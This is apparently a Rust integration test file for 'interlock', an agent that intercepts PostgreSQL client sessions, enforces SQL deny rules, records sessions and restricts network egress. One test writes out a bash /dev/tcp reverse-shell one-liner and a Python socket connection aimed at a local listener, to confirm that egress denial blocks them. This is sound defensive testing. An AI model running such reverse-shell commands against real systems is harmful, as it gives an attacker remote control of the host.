//! As an operator: reloads, two agents on one host, egress, sessions.

#![allow(clippy::unwrap_used, reason = "a test panics when something is not as it must be")]

use std::net::{TcpListener, UdpSocket};
use std::time::Duration;

use interlock_tests::client::Client;
use interlock_tests::process::{LIMIT, finish};
use interlock_tests::{Agent, Cgroup, Postgres, Stage, wait_for};

const DENY_DROP: &str =
    "rules:\n  - name: no-drop\n    match: {sql: {kind: [drop_table]}}\n    action: deny\n";
const DENY_TRUNCATE: &str =
    "rules:\n  - name: no-truncate\n    match: {sql: {kind: [truncate]}}\n    action: deny\n";

fn stage(rules: &str) -> Stage {
    let postgres = Postgres::start().unwrap();
    postgres.admin("CREATE TABLE a (n int); CREATE TABLE b (n int);").unwrap();
    Stage::start_with(postgres, rules, "").unwrap()
}

#[test]
fn a_changed_policy_is_taken_up_by_itself() {
    let stage = stage(DENY_DROP);
    assert!(stage.psql("DROP TABLE a;").unwrap().both().contains("no-drop"));
    stage.write_policy(DENY_TRUNCATE).unwrap();
    wait_for("the reload", Duration::from_secs(20), || {
        stage.psql("TRUNCATE b;").unwrap().both().contains("no-truncate")
    })
    .unwrap();
    stage.psql("DROP TABLE a;").unwrap().expect_success();
    assert_eq!(stage.postgres.admin("SELECT to_regclass('a') IS NULL").unwrap(), "t");
}

#[test]
fn a_bad_file_keeps_the_old_policy_and_says_where_it_is_bad() {
    let stage = stage(DENY_DROP);
    for bad in [
        "rules:\n  - name: x\n    acton: deny\n",
        "rules: [",
        "rules:\n  - name: y\n    match: {sql: {kind: [dropp_table]}}\n    action: deny\n",
    ] {
        stage.write_policy(bad).unwrap();
        let printed = stage.agent.reload().unwrap().expect_failure();
        assert!(printed.contains("50-test.yaml:"), "it does not say which file and line: {printed}");
        assert!(stage.psql("DROP TABLE a;").unwrap().both().contains("no-drop"), "the old policy is gone");
    }
    stage
        .agent
        .interlock(&["policy", "check", stage.agent.policies().to_str().unwrap()])
        .unwrap()
        .expect_failure();
    let events = serde_json::to_string(&stage.agent.events().unwrap()).unwrap();
    assert!(events.contains("policy_rejected"), "the rejection is not recorded");
}

#[test]
fn an_agent_does_not_start_on_a_bad_policy() {
    let mut agent = Agent::prepare(
        interlock_tests::agent::binary().unwrap(),
        &[("1.yaml", "version: 1\nrulez: []\n")],
        "",
        Cgroup::new().unwrap(),
    )
    .unwrap();
    agent.spawn().unwrap();
    wait_for("the agent's end", LIMIT, || agent.log().contains("1.yaml")).unwrap();
    agent.interlock(&["status", "--wait", "1"]).unwrap().expect_failure();
}

#[test]
fn an_open_connection_is_judged_by_the_new_policy() {
    let stage = stage(DENY_TRUNCATE);
    let signal = interlock_tests::temporary_directory("signal").unwrap();
    let go = signal.path().join("go");
    let script = format!(
        r#"
import os, psycopg, time
with psycopg.connect(os.environ["PGURL"], autocommit=True) as c:
    print(c.execute("SELECT 'open'").fetchone())
    open("{go}.ready", "w")
    while not os.path.exists("{go}"):
        time.sleep(0.01)
    try:
        c.execute("DROP TABLE a")
        print("dropped")
    except psycopg.Error as e:
        print(e.sqlstate)
"#,
        go = go.display()
    );
    let mut command = Client::Python.command(&stage.postgres, Some(&stage.clients));
    let client = std::thread::spawn(move || finish(&mut command, &script, LIMIT));
    wait_for("the client", LIMIT, || signal.path().join("go.ready").exists()).unwrap();
    stage.write_policy(DENY_DROP).unwrap();
    stage.agent.reload().unwrap().expect_success();
    std::fs::write(&go, "").unwrap();
    let printed = client.join().unwrap().unwrap().expect_success();
    assert!(printed.contains("open") && printed.contains("42501"), "{printed}");
}

#[test]
fn two_agents_side_by_side() {
    let one = stage(DENY_DROP);
    let two = stage(DENY_TRUNCATE);
    assert!(one.psql("DROP TABLE a;").unwrap().both().contains("no-drop"));
    assert!(two.psql("TRUNCATE a;").unwrap().both().contains("no-truncate"));
    one.psql("TRUNCATE a;").unwrap().expect_success();
    two.psql("DROP TABLE a;").unwrap().expect_success();
    // Each records its own, and the end of one is nothing to the other.
    assert_eq!(one.agent.texts("deny").unwrap(), ["DROP TABLE a;"]);
    assert_eq!(two.agent.texts("deny").unwrap(), ["TRUNCATE a;"]);
    let pins = one.agent.pins().unwrap();
    drop(one);
    assert!(!pins.exists(), "{} is left", pins.display());
    assert!(two.psql("TRUNCATE b;").unwrap().both().contains("no-truncate"));
}

#[test]
fn a_second_agent_on_the_same_state_does_not_start() {
    let mut stage = stage(DENY_DROP);
    let mut command = stage.agent.command();
    let finished = finish(command.arg("agent"), "", Duration::from_secs(20)).unwrap();
    assert!(!finished.timed_out, "it started");
    finished.expect_failure();
    assert!(stage.psql("DROP TABLE a;").unwrap().both().contains("no-drop"), "the first one is harmed");
    stage.agent.stop();
}

#[test]
fn status_tells_what_is_attached_where() {
    let stage = stage(DENY_DROP);
    stage.psql("SELECT 1;").unwrap().expect_success();
    let status = stage.agent.json(&["status", "--json"]).unwrap().remove(0);
    assert_eq!(status["serving"], true, "{status}");
    let cgroup = stage.agent.cgroup().path().to_str().unwrap();
    let (flows, kernel) = (&status["flows"], &status["interception"]);
    assert_eq!((&flows["total"], &flows["commands"]), (&1.into(), &1.into()), "{status}");
    assert_eq!(status["policies"]["rules"], 1, "{status}");
    assert_eq!(kernel["cgroup"], cgroup, "{status}");
    assert_eq!(kernel["agent"].as_u64(), stage.agent.pid().map(u64::from), "{status}");
    assert_eq!(kernel["counters"]["redirected"], 1, "{status}");
    assert!(kernel["programs"].as_array().is_some_and(|programs| programs.len() > 10), "{status}");
    for time in [&status["since"], &kernel["since"], &kernel["agent_since"]] {
        assert!(time.as_str().is_some_and(|time| time.ends_with('Z') && time.contains('T')), "{status}");
    }
    let printed = stage.agent.interlock(&["status"]).unwrap().expect_success();
    assert!(printed.contains(cgroup) && printed.lines().count() <= 10, "{printed}");
    let all = stage.agent.interlock(&["status", "--verbose"]).unwrap().expect_success();
    assert!(all.lines().count() > printed.lines().count() && all.contains("connect4"), "{all}");
    let reloaded = stage.agent.reload().unwrap().expect_success();
    assert_eq!(reloaded, "1 file, 1 rule, 0 masks in force (unchanged)\n");
    let reloaded = stage.agent.json(&["reload", "--json"]).unwrap().remove(0);
    assert_eq!((&reloaded["changed"], &reloaded["rules"]), (&false.into(), &1.into()), "{reloaded}");
}

#[test]
fn a_reverse_shell_is_just_an_unlisted_destination() {
    let stage = stage("egress: deny\nresolvers: deny\n");
    let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
    stage.shell(&script).unwrap().expect_failure();
    let six = format!("python3 -c \"import socket; socket.create_connection(('::ffff:127.0.0.1', {port}))\"");
    stage.shell(&six).unwrap().expect_failure();
    assert!(listener.accept().is_err(), "a connection arrived");
    // The listed server is reached all the same, and an undesignated process reaches the listener.
    stage.psql("SELECT 1;").unwrap().expect_success();
    finish(
        std::process::Command::new("bash").args(["-c", &format!(": > /dev/tcp/127.0.0.1/{port}")]),
        "",
        LIMIT,
    )
    .unwrap()
    .expect_success();
    wait_for("the record of the refusal", Duration::from_secs(10), || {
        let events = serde_json::to_string(&stage.agent.events().unwrap()).unwrap();
        events.contains(&format!("127.0.0.1:{port}")) && events.contains("deny")
    })
    .unwrap();
}

#[test]
fn udp_is_refused_as_tcp_is() {
    let stage = stage("egress: deny\nresolvers: deny\n");
    for (family, address) in [("AF_INET", "127.0.0.1"), ("AF_INET6", "::1"), ("AF_INET6", "::ffff:127.0.0.1")]
    {
        let bind = if family == "AF_INET" { "127.0.0.1" } else { "::" };
        let socket = UdpSocket::bind((bind, 0)).unwrap();
        socket.set_read_timeout(Some(Duration::from_millis(200))).unwrap();
        let port = socket.local_addr().unwrap().port();
        // By sendto, and by connect and send.
        let script = format!(
            r#"
import socket
for connect in (False, True):
    s = socket.socket(socket.{family}, socket.SOCK_DGRAM)
    try:
        if connect:
            s.connect(("{address}", {port}))
            s.send(b"leak")
        else:
            s.sendto(b"leak", ("{address}", {port}))
        print("sent")
    except OSError as e:
        print("refused", e.errno)
"#
        );
        let printed = stage.python(&script).unwrap().expect_success();
        assert_eq!(printed.matches("refused").count(), 2, "{address}: {printed}");
        assert!(socket.recv(&mut [0; 16]).is_err(), "{address}: it arrived");
    }
}

#[test]
fn egress_is_recorded_where_it_is_asked_for() {
    let stage = stage("egress: record\n");
    let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    stage.shell(&format!(": > /dev/tcp/127.0.0.1/{port}")).unwrap().expect_success();
    listener.accept().unwrap();
    wait_for("the record", Duration::from_secs(10), || {
        serde_json::to_string(&stage.agent.events().unwrap()).unwrap().contains(&format!("127.0.0.1:{port}"))
    })
    .unwrap();
}

#[test]
fn sessions_are_listed_shown_replayed_and_exported() {
    let stage = stage(DENY_DROP);
    stage.psql("SELECT 'first of one';\nDROP TABLE a;\n").unwrap();
    stage.psql("SELECT 'first of two', generate_series(1, 3);\n").unwrap();
    let sessions = stage.agent.json(&["sessions", "list", "--json"]).unwrap();
    assert_eq!(sessions.len(), 2, "{sessions:?}");
    let listed = stage.agent.interlock(&["sessions", "list"]).unwrap().expect_success();
    let mut texts = 0;
    for session in &sessions {
        let id = session["session"].as_str().expect("a session has an id");
        assert!(listed.contains(&id[..8]), "{listed}");
        let shown = stage.agent.interlock(&["sessions", "show", id]).unwrap().expect_success();
        let replayed = stage.agent.interlock(&["sessions", "replay", id]).unwrap().expect_success();
        for text in ["first of one", "first of two", "DROP TABLE a"] {
            if shown.contains(text) {
                texts += 1;
                assert!(replayed.contains(text), "{text} is shown, but not replayed:\n{replayed}");
            }
        }
        assert!(shown.contains("psql"), "it does not say who: {shown}");
    }
    assert_eq!(texts, 3);
    let csv = stage.agent.interlock(&["sessions", "export", "--format", "csv"]).unwrap().expect_success();
    assert!(csv.contains("first of two") && csv.contains("no-drop"), "{csv}");
    let jsonl = stage.agent.interlock(&["sessions", "export", "--format", "jsonl"]).unwrap().expect_success();
    for line in jsonl.lines() {
        serde_json::from_str::<serde_json::Value>(line).unwrap();
    }
    // Denied commands are found by a filter.
    let denied =
        stage.agent.commands().unwrap().into_iter().filter(|command| command["verdict"] == "deny").count();
    assert_eq!(denied, 1);
}

#[test]
fn recordings_keys_and_socket_are_roots_alone() {
    use std::os::unix::fs::PermissionsExt as _;
    let stage = stage(DENY_DROP);
    stage.psql("SELECT 'secret of the state';").unwrap().expect_success();
    let mode = |path: &std::path::Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&stage.agent.state()), 0o700);
    let script = format!(
        "setpriv --reuid=65534 --regid=65534 --clear-groups sh -c 'cat {}/sessions/*; {} --config {} status; {} --config {} sessions list'",
        stage.agent.state().display(),
        interlock_tests::agent::binary().unwrap().display(),
        stage.agent.config().display(),
        interlock_tests::agent::binary().unwrap().display(),
        stage.agent.config().display()
    );
    let printed = stage.shell(&script).unwrap().expect_failure();
    assert!(!printed.contains("secret of the state") && !printed.contains("serving\n"), "{printed}");
}

#[test]
fn undesignated_clients_notice_nothing() {
    let stage = stage(DENY_DROP);
    let printed =
        Client::Psql.run(&stage.postgres, None, "DROP TABLE a;\nSELECT 1;").unwrap().expect_success();
    assert!(printed.contains("(1 row)"));
    assert!(stage.agent.commands().unwrap().is_empty());
}

#[test]
fn a_plaintext_connection_can_be_refused() {
    let stage = stage("plaintext: deny\n");
    let printed = stage.psql("SELECT 1;").unwrap().expect_failure();
    assert!(
        printed.to_lowercase().contains("encrypt")
            || printed.contains("plaintext")
            || printed.contains("TLS"),
        "{printed}"
    );
    assert!(stage.postgres.statements().is_empty());
}

#[test]
fn detach_leaves_nothing_behind() {
    let mut stage = stage(DENY_DROP);
    stage.psql("SELECT 1;").unwrap().expect_success();
    let pins = stage.agent.pins().unwrap();
    stage.agent.stop();
    assert!(pins.exists(), "an agent that stops must not let go of the processes");
    assert!(!stage.agent.run().join("control.sock").exists(), "the control socket is left");
    stage.agent.interlock(&["detach"]).unwrap().expect_success();
    assert!(!pins.exists(), "{} is left", pins.display());
    // The cgroups that the agent made are gone, those of others stay.
    let left = std::fs::read_dir(stage.agent.cgroup().path()).unwrap().flatten();
    let left: Vec<_> = left.filter(|entry| entry.path().is_dir()).map(|entry| entry.file_name()).collect();
    assert_eq!(left, ["clients"]);
    stage.psql("DROP TABLE a;").unwrap().expect_success();
    // The recording stays, and is whole.
    stage.agent.interlock(&["sessions", "verify"]).unwrap().expect_success();
}

#[test]
fn the_command_line_tells_by_its_exit_code_what_went_wrong() {
    let mut stage = stage(DENY_DROP);
    let shell = |script: &str| {
        let mut command = std::process::Command::new("bash");
        let binary = interlock_tests::agent::binary().unwrap();
        command.args(["-c", script]).env("interlock", binary).env("config", stage.agent.config());
        finish(&mut command, "", LIMIT).unwrap()
    };
    let unprivileged = "setpriv --reuid=65534 --regid=65534 --clear-groups $interlock --config $config";
    // An undesignated run is not run, which its own exit code cannot be taken for.
    let refused = shell("$interlock --config $config run --as nobody-knows -- true; echo code $?").both();
    assert!(refused.contains("code 125") && refused.contains("nobody-knows"), "{refused}");
    let broken = shell("$interlock --config /nosuch run -- true; echo code $?").both();
    assert!(broken.contains("code 125"), "{broken}");
    // A reader who goes away is no failure, a full disk is one; neither is a panic.
    for command in ["status", "status --verbose", "completions bash", "sessions list", "policy schema"] {
        let head = shell(&format!("set -o pipefail; $interlock --config $config {command} | true"));
        assert!(head.success() && !head.both().contains("panicked"), "{command}: {}", head.both());
        let full = shell(&format!("$interlock --config $config {command} > /dev/full; echo code $?")).both();
        assert!(full.contains("code 1\n") && full.contains("cannot write the output"), "{command}: {full}");
    }
    // Who may not look is not told that nothing is there.
    let looked = shell(&format!("{unprivileged} status; echo code $?; {unprivileged} detach; echo code $?"));
    assert_eq!(looked.stdout.matches("code 1").count(), 2, "{}", looked.both());
    assert_eq!(looked.stderr.matches("needs root").count(), 2, "{}", looked.both());
    let with_agent = shell("$interlock --config $config detach; echo code $?").both();
    assert!(with_agent.contains("an agent runs") && with_agent.contains("code 1"), "{with_agent}");
    stage.agent.stop();
    let left = stage.agent.interlock(&["status"]).unwrap().expect_failure();
    assert!(left.starts_with("REFUSING"), "{left}");
    let looked = stage.agent.json(&["detach", "--json"]).unwrap().remove(0);
    assert_eq!(looked["detached"], true, "{looked}");
    let nothing = stage.agent.interlock(&["status"]).unwrap().expect_failure();
    assert!(nothing.contains("no process is held"), "{nothing}");
}

#[test]
fn a_start_that_fails_leaves_nothing_in_the_recording() {
    let mut agent = Agent::prepare(
        interlock_tests::agent::binary().unwrap(),
        &[("1.yaml", "version: 1\nrulez: []\n")],
        "",
        Cgroup::new().unwrap(),
    )
    .unwrap();
    for _ in 0..2 {
        agent.spawn().unwrap();
        let status = agent.wait(LIMIT).unwrap();
        assert_eq!(status.code(), Some(1));
    }
    assert!(agent.log().contains("ERROR") && agent.log().contains("1.yaml:2:1"), "{}", agent.log());
    assert!(!agent.state().join("sessions").exists(), "a failed start wrote to the recording");
}
